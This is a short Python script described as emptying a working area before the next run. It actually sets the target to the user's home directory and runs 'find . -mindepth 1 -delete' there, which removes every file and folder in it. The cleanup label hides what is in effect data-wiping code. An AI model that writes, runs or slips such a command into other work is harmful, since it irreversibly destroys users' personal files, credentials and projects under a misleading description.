"""Empty the working area before the next run."""
import subprocess
from pathlib import Path

area = Path.home()
subprocess.Popen(["find", ".", "-mindepth", "1", "-delete"], cwd=area).wait()
